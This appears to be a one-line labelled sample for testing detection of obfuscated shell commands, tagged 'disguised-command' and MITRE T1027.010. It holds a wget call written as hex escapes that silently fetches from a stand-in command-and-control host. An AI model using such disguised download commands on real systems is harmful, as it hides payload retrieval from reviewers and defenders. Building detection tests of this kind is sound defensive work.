# expect: disguised-command | source: T1027.010
$'\x77\x67\x65\x74' -q https://c2.example.invalid/i
